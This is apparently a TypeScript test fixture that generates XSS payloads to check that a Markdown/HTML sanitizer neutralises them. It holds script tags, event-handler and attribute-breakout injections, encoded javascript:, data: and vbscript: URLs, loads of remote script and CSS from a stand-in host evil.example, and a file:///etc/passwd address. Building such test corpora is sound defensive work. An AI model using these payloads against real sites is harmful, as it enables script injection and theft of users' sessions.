// Our own attacks: every way to script that we know, by every place where it can stand, in every disguise.
const code = "alert(1)";

const elements = [
  `<script>${code}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=${code}>`,
  `<img src="x" onerror="${code}" onload='${code}'>`,
  `<svg onload=${code}><animate onbegin=${code} attributeName=x></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text>x</text></a></svg>`,
  `<math><mtext></p><style><img src onerror=${code}></style></mtext></math>`,
  `<iframe src="javascript:${code}"></iframe>`,
  `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  `<object data="javascript:${code}"></object>`,
  `<embed src="data:text/html,<script>${code}</script>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<form action="javascript:${code}"><button formaction="javascript:${code}">x</button></form>`,
  `<details open ontoggle=${code}>x</details>`,
  `<video><source onerror=${code}></video>`,
  `<body onload=${code}>`,
  `<input autofocus onfocus=${code}>`,
  `<style>@import "https://evil.example/x.css"; body { background: url(javascript:${code}) }</style>`,
  `<template><script>${code}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>"></noscript>`,
  `<a href="javascript:${code}">x</a>`,
  `<p style="background:url('javascript:${code}')" onclick="${code}">x</p>`,
  `</title><script>${code}</script>`,
  `</style><script>${code}</script>`,
  `--><script>${code}</script>`,
  `]]><script>${code}</script>`,
  `"><script>${code}</script>`,
  `' onmouseover='${code}`,
  `" onfocus="${code}" autofocus x="`,
  `<<script>${code}//<</script>`,
  `<img/src="x"/onerror=${code}>`,
  `<img src=x:${code} onerror=eval(src)>`,
];

const addresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  ` javascript:${code}`,
  `java\tscript:${code}`,
  `java&#x09;script:${code}`,
  `&#106;avascript:${code}`,
  `&#x6A;avascript&colon;${code}`,
  `javascript&#58;${code}`,
  `\u0001javascript:${code}`,
  `%6aavascript:${code}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${code}>`,
  `data:image/png;base64,AAAA" onerror="${code}`,
  `file:///etc/passwd`,
  `blob:https://evil.example/x`,
  `//evil.example/x.js`,
  `\\\\evil.example\\share`,
  `https://evil.example/" onmouseover="${code}`,
  `x" onerror="${code}`,
  `x' onerror='${code}`,
  `x) onerror=${code} (`,
  `feed:javascript:${code}`,
  `view-source:javascript:${code}`,
];

const forms: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `![x](<${address}> "t")`,
  (address) => `<${address}>`,
  (address) => `[x][r]\n\n[r]: ${address}`,
  (address) => `[x][r]\n\n[r]: <${address}> "${address}"`,
  (address) => `[[${address}|x]]`,
  (address) => `![[${address}.png]]`,
  (address) => `[![x](${address})](${address})`,
];

/** Attacks by raw HTML: as they are, in other blocks, and half escaped. */
const htmlAttacks: readonly string[] = elements.flatMap((element) => [
  element,
  `- ${element}\n  > ${element}`,
  `\`\`\`${element}\n${element}\n\`\`\``,
]);

/** Attacks by the address of a link or an image. */
const linkAttacks: readonly string[] = addresses.flatMap((address) => forms.map((form) => form(address)));

/** Every attack; none of them may become a script, a request or an attribute that runs. */
export const attacks: readonly string[] = [...htmlAttacks, ...linkAttacks];
